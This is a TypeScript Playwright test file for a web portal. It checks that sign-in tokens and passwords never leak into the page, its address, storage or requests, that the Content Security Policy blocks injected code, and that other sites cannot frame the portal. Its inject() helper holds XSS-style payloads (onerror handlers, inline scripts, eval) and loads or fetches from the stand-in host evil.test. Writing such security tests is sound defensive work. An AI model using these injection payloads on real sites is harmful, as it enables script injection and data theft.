import { createServer } from 'node:http';
import { decodeJwt } from 'jose';
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import type { AuthResult } from '#api/authentication.ts';
import { ADMIN_ROUTES, COMMON_ROUTES } from './routes-table.ts';
import { shellOf } from './shell-page.ts';
import { it } from './support/journey.ts';
import { freePort } from './support/portal.ts';
import { SAMPLE_PASSWORD, signIn } from './support/sign-in.ts';
import { openAs } from './support/signed-in.ts';

const ADMIN = 'admin@bridgework.test';

async function tokensOfSignIn(page: Page): Promise<AuthResult> {
  let body = '{}';
  await page.route('**/api/authenticate', async (route) => {
    const response = await route.fetch();
    body = await response.text();
    await route.fulfill({ response, body });
  });
  await signIn(page, ADMIN);
  return JSON.parse(body);
}

/** Everything that an attacker can read from the page without running its code. */
const readable = (page: Page) =>
  page.evaluate(() =>
    [
      document.documentElement.outerHTML,
      location.href,
      document.cookie,
      window.name,
      JSON.stringify(history.state),
      JSON.stringify({ ...localStorage }),
      JSON.stringify({ ...sessionStorage }),
    ].join('\n'),
  );

it('SESSION-3, CONST-2.9, API-20.2: a token lasts 60 minutes and expiresIn is 36000; neither token nor password can be read in the page, its address or its storage, and both go to the portal alone', async ({
  page,
  address,
}) => {
  const addresses: string[] = [];
  const said: string[] = [];
  page.on('request', (request) => void addresses.push(request.url()));
  page.on('console', (message) => void said.push(message.text()));
  const { accessToken, refreshToken, expiresIn } = await tokensOfSignIn(page);
  const { iat = 0, exp = 0 } = decodeJwt(accessToken);
  expect([exp - iat, expiresIn]).toEqual([60 * 60, 36_000]);
  const secrets = [accessToken, refreshToken, SAMPLE_PASSWORD];

  await shellOf(page).account.waitFor();
  const seen = [await readable(page)];
  for (const [path] of [...COMMON_ROUTES.slice(0, 4), ...ADMIN_ROUTES.slice(0, 2)]) {
    await page.goto(path);
    await shellOf(page).account.waitFor();
    seen.push(await readable(page));
  }
  await shellOf(page).account.click();
  seen.push(await readable(page));
  for (const secret of secrets) {
    expect(seen.filter((text) => text.includes(secret))).toEqual([]);
    expect([...addresses, ...said].filter((text) => text.includes(secret))).toEqual([]);
  }
  expect(seen.filter((text) => text.includes('"Token"'))).toHaveLength(seen.length);
  const origins = addresses.filter((each) => !each.startsWith('data:')).map((each) => new URL(each).origin);
  expect(new Set(origins)).toEqual(new Set([address]));
});

/** Injects code into an open page like an attacker; `refused` lists the violated directives. */
function inject(): Promise<unknown> {
  const refused: string[] = [];
  Reflect.set(globalThis, 'refused', refused);
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    refused.push(effectiveDirective);
  });
  const addScript = (fill: (script: HTMLScriptElement) => void) => {
    const script = document.createElement('script');
    fill(script);
    document.body.append(script);
  };
  const trusted = (address: string, policy: string) =>
    Reflect.get(globalThis, 'trustedTypes')
      .createPolicy(policy, { createScriptURL: String })
      .createScriptURL(address);
  const preload = () => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = 'https://evil.test/x.js';
    document.head.append(link);
  };
  const attempts = [
    () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">'),
    () => addScript((script) => script.append('window.ran = 2')),
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.ran = 3');
      button.click();
    },
    () => Reflect.get(globalThis, 'eval')('window.ran = 4'),
    () => addScript((script) => script.setAttribute('src', 'https://evil.test/x.js')),
    () => addScript((script) => script.setAttribute('src', trusted('/x.js', 'evil'))),
    () => addScript((script) => script.setAttribute('src', trusted('/x.js', 'speculation'))),
    preload,
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.test/';
      document.body.append(frame);
    },
    () => {
      new Image().src = 'https://evil.test/pixel.png';
    },
    () => fetch('https://evil.test/'),
  ];
  // The policy ignores code that the debugger evaluates, but applies to the page's own tasks.
  const inTheirOwnTasks = attempts.map(
    (attempt) =>
      new Promise<void>((resolve) => {
        setTimeout(resolve);
        setTimeout(attempt);
      }),
  );
  return Promise.all(inTheirOwnTasks);
}

const isTrustedTypes = (directive: string) => directive === 'trusted-types';

it('the policy blocks injected scripts, handlers, frames, images and requests', async ({ context }) => {
  const page = await context.newPage();
  await openAs(page, ADMIN);
  await page.evaluate(inject);
  const kept = (name: string) => page.evaluate((of) => Reflect.get(globalThis, of), name);
  // The browser reports a violation in a later task.
  await expect
    .poll(async () => [...new Set(await kept('refused'))].sort())
    .toEqual([
      ...['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'],
      'trusted-types',
    ]);
  await expect.poll(async () => (await kept('refused')).filter(isTrustedTypes).length).toBe(2);
  expect(await kept('ran')).toBeUndefined();
});

it('no other page can embed the portal in a frame', async ({ context, address }) => {
  const foreign = createServer((_, reply) => {
    reply.setHeader('content-type', 'text/html').end(`<iframe src="${address}/login"></iframe>`);
  });
  const port = await freePort();
  await new Promise<void>((resolve) => foreign.listen(port, '127.0.0.1', resolve));
  const page = await context.newPage();
  const failed = page.waitForEvent('requestfailed');
  await page.goto(`http://127.0.0.1:${port}/`);
  expect((await failed).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  await page.close();
  foreign.close();
});
